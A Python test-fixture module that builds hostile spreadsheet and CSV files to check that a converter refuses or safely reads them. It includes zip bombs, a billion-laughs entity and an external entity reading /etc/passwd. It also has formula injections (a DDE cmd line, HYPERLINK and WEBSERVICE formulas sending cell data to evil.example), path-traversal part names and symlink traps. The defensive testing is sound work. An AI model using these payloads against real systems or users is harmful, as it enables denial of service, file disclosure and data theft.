"""Small files that mean harm, made when they are asked for. Out: `HOSTILE`, by what they do.

Each has the exit code that `nearmiss convert` gives it; the table of docs/hard-to-break.md is made
from this list by scripts/hostile.
"""

from __future__ import annotations

import gzip
import os
import random
import sys
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

from hostile.workbook import (
    CSV,
    GOOD,
    MAIN,
    OFFICE,
    PACKAGE,
    ROW,
    book,
    cell,
    named,
    packed,
    parts,
    row,
    sheet,
    text,
    write,
)

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

READ, REFUSED = 0, 3


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file that means harm.

    Attributes:
        name: its file name.
        what: what is wrong with it, in plain words.
        make: writes it to a path.
        code: the exit code that it gets.
        says: words of the sentence that it gets, where it is refused.
    """

    name: str
    what: str
    make: Callable[[Path], None]
    code: int
    says: str = ""


def zeros(mebibytes: int) -> bytes:
    """A sheet that is mostly spaces, which pack a thousand to one."""
    return sheet(*GOOD).encode() + b" " * (mebibytes * 1024**2)


def bomb(path: Path) -> None:
    """Streams a workbook of 4 GiB of spaces into few bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts().items():
            if not name.endswith("sheet1.xml"):
                package.writestr(name, data)
        block = b" " * 1024**2
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(sheet(*GOOD).encode())
            for _ in range(1500):
                part.write(block)


def lying_sizes(path: Path) -> None:
    """A directory that says 4 GiB of a part of 1 KiB."""
    data = bytearray(packed(parts()))
    place = data.rfind(b"PK\x01\x02")
    while place != -1:
        data[place + 24 : place + 28] = b"\xfe\xff\xff\xff"
        place = data.rfind(b"PK\x01\x02", 0, place)
    write(path, bytes(data))


def small_lie(path: Path) -> None:
    """A directory that says 1 KiB of a part of 64 MiB."""
    data = bytearray(packed(parts() | {"xl/worksheets/sheet1.xml": zeros(64)}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = (1024).to_bytes(4, "little")
    write(path, bytes(data))


def many_entries(path: Path) -> None:
    """A hundred thousand empty parts."""
    with zipfile.ZipFile(path, "w") as package:
        for name, data in parts().items():
            package.writestr(name, data)
        for number in range(100_000):
            package.writestr(f"xl/x{number}.xml", b"")


def shared_bomb(path: Path) -> None:
    """One text of a mebibyte, to which twenty thousand cells point."""
    strings = f'<sst xmlns="{MAIN}"><si><t>{"x" * 1024**2}</t></si></sst>'.encode()
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(3, 20_003))
    xml = sheet(*GOOD, rows, dimension="A1:F20002")
    write(path, packed(parts(xml) | {"xl/sharedStrings.xml": strings}))


def _nested() -> bytes:
    data = b"0" * 1024**2
    for number in range(5):
        data = packed({f"xl/{number}{copy}.zip": data for copy in range(10)})
    return data


def deep_xml(depth: int) -> str:
    """A sheet with elements inside elements."""
    return sheet(*GOOD, after="<extLst>" + "<ext>" * depth + "</ext>" * depth + "</extLst>")


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol" * 10}">' for n in range(12))
OUTSIDE = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def ods(repeat_rows: int, repeat_columns: int) -> Callable[[Path], None]:
    """An OpenDocument sheet whose one cell is repeated."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    cells = f'<table:table-cell table:number-columns-repeated="{repeat_columns}" '
    body = (
        f'<office:document-content xmlns:office="{names}:office:1.0" '
        f'xmlns:table="{names}:table:1.0" xmlns:text="{names}:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Log">'
        f'<table:table-row table:number-rows-repeated="{repeat_rows}">{cells}'
        'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    content = {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": body.encode(),
        "META-INF/manifest.xml": (
            f'<manifest:manifest xmlns:manifest="{names}:manifest:1.0"><manifest:file-entry '
            'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
            'spreadsheet"/></manifest:manifest>'
        ).encode(),
    }
    return lambda path: write(path, packed(content))


def flipped(path: Path) -> None:
    """A workbook with a bit changed in every hundredth byte."""
    data = bytearray(packed(parts()))
    chance = random.Random(7)  # noqa: S311 (the same each time)
    for place in range(60, len(data), 100):
        data[place] ^= 1 << chance.randrange(8)
    write(path, bytes(data))


def formulas() -> str:
    """A log in which cells start programs, and fetch pages, as far as a spreadsheet lets them."""
    bad = (
        "cmd|'/C calc'!A0",
        'HYPERLINK("http://evil.example/?x="&A2,"Open")',
        'WEBSERVICE("http://evil.example/"&A2)',
        "'file:///C:/x/[other.xlsx]Sheet1'!$A$1",
    )
    cells = [
        row(
            number,
            (),
            *(cell(f"{letter}{number}", "A near miss.", formula=formula) for letter in "DE"),
            cell(f"B{number}", "2026-10-04"),
        )
        for number, formula in enumerate(bad, start=3)
    ]
    return sheet(*GOOD, *cells)


def one_folder(path: Path) -> None:
    """A folder that is named as a workbook."""
    path.mkdir()


def pipe(path: Path) -> None:
    """A named pipe into which nobody writes."""
    os.mkfifo(path)


def to_endless(path: Path) -> None:
    """A link to a device that never ends."""
    path.symlink_to("/dev/zero")


def to_itself(path: Path) -> None:
    """A link that leads to itself."""
    path.symlink_to(path)


def to_nowhere(path: Path) -> None:
    """A link to a file that is gone."""
    path.symlink_to(path.with_name("gone.xlsx"))


WIDE = sheet(*GOOD, row(3, ROW, cell("XFD3", "x")), dimension="A1:XFD3")
FAR = sheet(*GOOD, f'<row r="1048576">{cell("XFD1048576", "x")}</row>', dimension="A1:XFD1048576")
ODDLY = sheet(*GOOD, "<row r='1048576'><c  r = 'XFD1048576' ><v>1</v></c></row>")
BEYOND = sheet(*GOOD, '<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>')
NULS = CSV.replace("nearly", "near\0ly")
EXTERNAL = {
    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>'.encode(),
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode(),
}
EVIL_NAMES = {"../../evil.txt": b"x", "/etc/evil": b"x", "C:\\evil.txt": b"x", "..\\..\\x": b"x"}

HOSTILE: tuple[Hostile, ...] = (
    Hostile("bomb.xlsx", "a zip bomb: 1.5 GiB of blanks in 1.5 MiB", bomb, REFUSED, "unpack"),
    Hostile("nested.xlsx", "a zip of zips of zips, five deep", text(_nested()), REFUSED, "damaged"),
    Hostile("entries.xlsx", "a workbook of 100,000 parts", many_entries, REFUSED, "parts"),
    Hostile("huge-sizes.xlsx", "parts that claim 4 GiB each", lying_sizes, REFUSED, "unpack"),
    Hostile("small-sizes.xlsx", "a part of 64 MiB that claims 1 KiB", small_lie, REFUSED),
    Hostile("texts.xlsx", "a text of 1 MiB in 20,000 cells, kept once", shared_bomb, REFUSED),
    Hostile(
        "laughs.xlsx",
        "entities that multiply a billion times",
        book(
            sheet(
                *GOOD,
                row(3, ("", "", "", "&l11;")).replace("&amp;", "&"),
                before=f"<!DOCTYPE worksheet [{LAUGHS}]>",
            )
        ),
        REFUSED,
        "damaged",
    ),
    Hostile(
        "outside.xlsx",
        "an entity that names a file of the computer",
        book(sheet(*GOOD, row(3, ("", "", "", "&x;")).replace("&amp;", "&"), before=OUTSIDE)),
        REFUSED,
        "damaged",
    ),
    Hostile(
        "deep.xlsx", "XML with 100,000 elements inside each other", book(deep_xml(100_000)), READ
    ),
    Hostile(
        "dimension.xlsx",
        "a sheet that claims a million columns",
        book(sheet(*GOOD, dimension="A1:BDWGN1048576")),
        READ,
    ),
    Hostile("wide.xlsx", "a cell in the last column, XFD", book(WIDE), READ),
    Hostile("far.xlsx", "a cell in the last corner, XFD1048576", book(FAR), REFUSED, "limit"),
    Hostile(
        "far-written-oddly.xlsx",
        "the same, written so that it is overlooked",
        book(ODDLY),
        REFUSED,
        "memory",
    ),
    Hostile("beyond.xlsx", "a cell beyond the last corner", book(BEYOND), REFUSED),
    Hostile(
        "repeated.ods",
        "an OpenDocument cell repeated a million times a million",
        ods(1_048_576, 1_048_576),
        REFUSED,
    ),
    Hostile(
        "formulas.xlsx",
        "formulas that start programs, fetch pages, and read other files",
        book(formulas()),
        READ,
    ),
    Hostile("external.xlsx", "links to other workbooks", named(EXTERNAL), READ),
    Hostile(
        "macros.xlsm",
        "a workbook with macros",
        named({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600}),
        READ,
    ),
    Hostile(
        "embedded.xlsx",
        "an embedded program",
        named({"xl/embeddings/oleObject1.bin": b"MZ" + b"\0" * 600}),
        READ,
    ),
    Hostile("names.xlsx", "parts named ../../evil.txt and /etc/evil", named(EVIL_NAMES), READ),
    Hostile(
        "huge-cell.xlsx",
        "a cell of 5 million letters",
        book(sheet(*GOOD, row(3, ("3", "2026-10-05", "Meadow", "x" * 5_000_000)))),
        REFUSED,
        "letters",
    ),
    Hostile("nul.csv", "a CSV with NUL bytes", text(NULS), READ),
    Hostile("all-nul.csv", "a file of NUL bytes only", text(b"\0" * 1_000_000), REFUSED, "empty"),
    Hostile("csv-named.xlsx", "a CSV that is named .xlsx", text(CSV), REFUSED, ".csv"),
    Hostile("xlsx-named.csv", "a workbook that is named .csv", book(), REFUSED, ".xlsx"),
    Hostile(
        "html-named.xls",
        "a web page that is named .xls",
        text("<html><table><tr><td>x</td></tr></table></html>"),
        REFUSED,
        "web page",
    ),
    Hostile(
        "gzip.csv",
        "a gzip archive that is named .csv",
        text(gzip.compress(CSV.encode(), mtime=0)),
        REFUSED,
    ),
    Hostile(
        "program.xls",
        "a program that is named .xls",
        text(b"MZ\x90\0" + bytes(range(256)) * 20),
        REFUSED,
    ),
    Hostile(
        "half.xlsx",
        "the first half of a workbook",
        lambda path: write(path, packed(parts())[:700]),
        REFUSED,
        "damaged",
    ),
    Hostile("flipped.xlsx", "a workbook with bits flipped", flipped, REFUSED, "damaged"),
    Hostile(
        "ole.xls",
        "an old workbook of which only the first bytes are right",
        text(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000),
        REFUSED,
        "damaged",
    ),
    Hostile("one-line.csv", "a CSV of one line of 50 MB", text("x" * 50_000_000), REFUSED),
    Hostile(
        "one-cell.csv",
        "a CSV with a cell of 5 MB",
        text(CSV + f'3,2026-10-05,Meadow,"{"x" * 5_000_000}",,\n'),
        REFUSED,
    ),
    Hostile(
        "quote.csv",
        "a CSV whose quotation mark never ends",
        text(CSV + '3,2026-10-05,Meadow,"' + "a,b\n" * 100_000),
        REFUSED,
    ),
    Hostile(
        "columns.csv",
        "a CSV of 100,000 columns",
        text(",".join(f"c{n}" for n in range(100_000)) + "\n" + "1," * 99_999 + "1\n"),
        REFUSED,
        "columns",
    ),
    Hostile("folder.xlsx", "a folder", one_folder, REFUSED, "folder"),
    *(
        ()
        if sys.platform == "win32"
        else (
            Hostile("pipe.csv", "a named pipe", pipe, REFUSED, "not a file"),
            Hostile(
                "endless.csv", "a link to an endless device", to_endless, REFUSED, "not a file"
            ),
            Hostile("itself.csv", "a link to itself", to_itself, REFUSED),
            Hostile(
                "nowhere.csv", "a link to a file that is gone", to_nowhere, REFUSED, "not there"
            ),
        )
    ),
)
"""By what they do; run `python scripts/hostile` to see what each gets."""
